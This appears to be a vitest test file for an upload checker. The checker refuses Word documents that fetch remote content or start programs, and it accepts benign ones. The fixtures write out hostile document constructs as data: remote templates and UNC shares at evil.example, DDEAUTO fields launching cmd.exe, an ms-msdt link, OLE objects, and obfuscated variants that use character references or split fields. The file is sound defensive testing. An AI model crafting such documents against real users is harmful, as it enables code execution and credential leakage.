import { expect, test } from 'vitest';
import { verdictOn } from '#tests/documents/corpus-world.ts';
import { madeCfb } from '#tests/documents/made-cfb.ts';
import { madeDoc, wordStream } from '#tests/documents/made-doc.ts';
import { contentTypes, madeDocx } from '#tests/documents/made-docx.ts';
import { type MadeEntry, madeZip } from '#tests/documents/made-zip.ts';

const fetches = 'This document fetches or starts something when it is opened. Please save it as a PDF and send that.';
const embedded = 'This document has something from another program inside it. Please save it as a PDF and send that.';
const damaged = 'This file is damaged or incomplete. Please save it again and send that.';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="rId9" Type="${office}/${type}" Target="${target}"${mode}/>`;
const relations = (...list: string[]) => `<?xml version="1.0"?><Relationships>${list.join('')}</Relationships>`;
const related = (...list: string[]) =>
  madeDocx([{ name: 'word/_rels/document.xml.rels', content: relations(...list) }]);
const body = (xml: string, more: MadeEntry[] = []) =>
  madeDocx([{ name: 'word/document.xml', content: `<w:document><w:body>${xml}</w:body></w:document>` }, ...more]);
const field = (...codes: string[]) =>
  body(
    [
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
      ...codes.map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`),
      '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ].join(''),
  );
const oleObject = madeCfb([{ name: '\u0001Ole10Native', content: Buffer.alloc(9) }]);

test.each<[what: string, content: Buffer, sentence: string]>([
  ['a template from the network', related(relation('attachedTemplate', 'https://evil.example/a.dotm')), fetches],
  ['a template of a Windows share', related(relation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm')), fetches],
  [
    'a template of the settings',
    madeDocx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: relations(relation('attachedTemplate', '\\\\evil.example\\s\\a.dotx')),
      },
    ]),
    fetches,
  ],
  ['an object from the network', related(relation('oleObject', 'https://evil.example/a.rtf')), fetches],
  ['an object of this machine', related(relation('oleObject', 'file:///C:\\Windows\\System32\\calc.exe')), fetches],
  ['a picture of a Windows share', related(relation('image', 'file://evil.example/share/a.png')), fetches],
  ['a picture of a share, with four slashes', related(relation('image', 'file:////evil.example/share/a.png')), fetches],
  ['a share in escapes', related(relation('image', 'file:///%5C%5Cevil.example%5Ca.png')), fetches],
  ['a picture from the web', related(relation('image', 'http://evil.example/a.png')), fetches],
  ['a share in character references', related(relation('image', '&#x5c;&#92;evil.example\\a.png')), fetches],
  [
    'the mode in character references',
    related(relation('image', '//evil.example/a', ' TargetMode="&#69;xternal"')),
    fetches,
  ],
  ['a relation that does not say it is outside', related(relation('image', 'https://evil.example/a.png', '')), fetches],
  ['single quotes', related(relation('image', 'https://evil.example/a.png').replaceAll('"', "'")), fetches],
  ['another prefix', related(relation('image', 'https://evil.example/a.png').replace('<R', '<p:R')), fetches],
  [
    'relations as UTF-16',
    madeDocx([
      {
        name: 'word/_rels/document.xml.rels',
        content: Buffer.from(`\uFEFF${relations(relation('frame', 'http://evil.example'))}`, 'utf16le'),
      },
    ]),
    fetches,
  ],
  ['a link to a Windows share', related(relation('hyperlink', '\\\\evil.example\\share')), fetches],
  ['a link that starts a program', related(relation('hyperlink', 'ms-msdt:/id PCWDiagnostic')), fetches],
  ['a document of another one', related(relation('subDocument', 'https://evil.example/a.docx')), fetches],
  ['a list for letters', body('', [{ name: 'word/settings.xml', content: '<w:mailMerge/>' }]), fetches],
  ['a foreign text', body('<w:altChunk r:id="rId9"/>'), fetches],
  ['a foreign text by its relation', related(relation('aFChunk', 'a.html', '')), fetches],
  ['a field that starts a program', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'), fetches],
  ['a field in pieces', field(' d', 'dE', 'AUTO cmd'), fetches],
  ['a field without quotation', field(' DDE excel "book"'), fetches],
  ['a field in one element', body('<w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple>'), fetches],
  ['a field in character references', body('<w:fldSimple w:instr="&#68;DEAUTO cmd"/>'), fetches],
  ['a field that links an object', field(' LINK Word.Document.8 "\\\\\\\\evil.example\\\\a.doc" \\a'), fetches],
  ['a field that fetches a picture', field(' INCLUDEPICTURE "https://evil.example/a.png" \\d'), fetches],
  ['a field that fetches from a share', field(' INCLUDETEXT "\\\\\\\\evil.example\\\\a.txt"'), fetches],
  [
    'a field in a footer',
    body('', [{ name: 'word/footer1.xml', content: '<w:fldSimple w:instr="DDEAUTO cmd"/>' }]),
    fetches,
  ],
  ['a drawing with a picture of a share', body('<v:imagedata src="\\\\evil.example\\a.png"/>'), fetches],
  ['an element for another program', body('<o:OLEObject Type="Embed" ProgID="Package" r:id="rId9"/>'), embedded],
  [
    'an object of another program',
    madeDocx([{ name: 'word/embeddings/oleObject1.bin', content: oleObject }]),
    embedded,
  ],
  ['an object named as a picture', madeDocx([{ name: 'word/media/a.png', content: oleObject }]), embedded],
  ['an object by its relation', related(relation('oleObject', 'embeddings/a.bin', '')), embedded],
  ['a control', related(relation('control', 'activeX/activeX1.xml', '')), embedded],
  ['a document inside', madeDocx([{ name: 'word/embeddings/a.docx', content: madeDocx() }]), embedded],
  [
    'a part in an unusual writing',
    madeDocx([{ name: 'word/footer1.xml', content: '<?xml version="1.0" encoding="UTF-7"?><w:ftr/>' }]),
    damaged,
  ],
  ['a part in letters of another machine', madeDocx([{ name: 'word/footer1.xml', content: 'Lo\xa7' }]), damaged],
  ['an instruction broken by a comment', field('DD<!-- -->EAUTO cmd'), damaged],
  ['a part with entities', body('<!DOCTYPE a [<!ENTITY b "c">]>'), damaged],
])('a document with %s is refused', async (_, content, sentence) => {
  expect(await verdictOn('essay.docx', content)).toBe(sentence);
});

test.each<[what: string, content: Buffer]>([
  ['links', related(relation('hyperlink', 'https://www.ons.gov.uk/'), relation('hyperlink', 'mailto:a@b.example'))],
  ['a link to a file of the writer', related(relation('hyperlink', 'file:///C:\\Users\\me\\notes.docx'))],
  [
    'a template of the machine it was written on',
    related(relation('attachedTemplate', 'file:///C:\\Users\\me\\Templates\\Essay.dotx')),
  ],
  ['a picture that lay on the writer’s disk', related(relation('image', 'file:///Users/me/chart.png'))],
  [
    'a chart linked to the writer’s spreadsheet',
    madeDocx([
      {
        name: 'word/charts/_rels/chart1.xml.rels',
        content: relations(relation('oleObject', 'file:///C:\\Users\\me\\Book1.xlsx')),
      },
    ]),
  ],
  [
    'a chart that carries its figures',
    madeDocx([
      {
        name: 'word/charts/_rels/chart1.xml.rels',
        content: relations(relation('package', '../embeddings/sheet.xlsx', '')),
      },
      {
        name: 'word/embeddings/sheet.xlsx',
        content: madeZip([{ name: '[Content_Types].xml', content: contentTypes() }]),
      },
    ]),
  ],
  ['a table of contents', field(' TOC \\o "1-3" \\h \\z \\u ')],
  [
    'a page number and a link',
    body('<w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr="HYPERLINK &quot;https://a.example&quot;"/>'),
  ],
  [
    'a picture pasted on a Mac',
    field(' INCLUDEPICTURE "/var/folders/x/T/com.microsoft.Word/page1image1" \\* MERGEFORMATINET '),
  ],
  ['words about DDEAUTO and altChunk', body('<w:p><w:r><w:t>DDEAUTO, LINK and altChunk</w:t></w:r></w:p>')],
])('a document with %s is taken', async (_, content) => {
  expect(await verdictOn('essay.docx', content)).toBe('docx');
});

const oldField = (code: string, encoding: BufferEncoding = 'latin1') => {
  const word = wordStream({ bytes: 9000 });
  Buffer.from(`\x13${code}\x14x\x15`, encoding).copy(word.content ?? Buffer.alloc(0), 5000);
  return word;
};

test.each<[what: string, content: Buffer, sentence: string]>([
  ['a field that starts a program', madeDoc([], oldField(' DDEAUTO c:\\\\cmd.exe ')), fetches],
  ['such a field in wide letters', madeDoc([], oldField('DDE cmd', 'utf16le')), fetches],
  ['a field that fetches a picture', madeDoc([], oldField(' INCLUDEPICTURE "http://evil.example/a.png" \\d')), fetches],
  ['a template of a Windows share', withTemplate('\\\\evil.example\\share\\a.dot'), fetches],
  ['a template from the network', withTemplate('https://evil.example/a.dotm'), fetches],
  [
    'a spreadsheet in it',
    madeDoc([{ name: 'ObjectPool', items: [{ name: '_1', items: [{ name: 'Workbook', content: Buffer.alloc(9) }] }] }]),
    embedded,
  ],
  [
    'a packed file in it',
    madeDoc([{ name: 'Notes', items: [{ name: '\u0001Ole10Native', content: Buffer.alloc(9) }] }]),
    embedded,
  ],
])('an old document with %s is refused', async (_, content, sentence) => {
  expect(await verdictOn('essay.doc', content)).toBe(sentence);
});

test.each<[what: string, content: Buffer]>([
  ['a page number', madeDoc([], oldField(' PAGE '))],
  ['a template of the machine it was written on', withTemplate('C:\\Users\\me\\Templates\\Normal.dot')],
  ['nothing in its place for objects', madeDoc([{ name: 'ObjectPool', items: [] }])],
])('an old document with %s is taken', async (_, content) => {
  expect(await verdictOn('essay.doc', content)).toBe('doc');
});

/** The template's path is the second of the strings that go with the document. */
function withTemplate(path: string): Buffer {
  const strings = Buffer.concat(
    ['', path, 'Title'].map((text) => {
      const length = Buffer.alloc(2);
      length.writeUInt16LE(text.length);
      return Buffer.concat([length, Buffer.from(text, 'utf16le')]);
    }),
  );
  const table = Buffer.alloc(5000);
  Buffer.concat([Buffer.from([0xff, 0xff, 3, 0, 0, 0]), strings]).copy(table, 4500);
  const word = wordStream();
  word.content?.writeUInt16LE(0x0200, 10);
  word.content?.writeUInt32LE(4500, 0x19a);
  word.content?.writeUInt32LE(strings.length + 6, 0x19e);
  return madeCfb([{ name: '1Table', content: table }, word]);
}
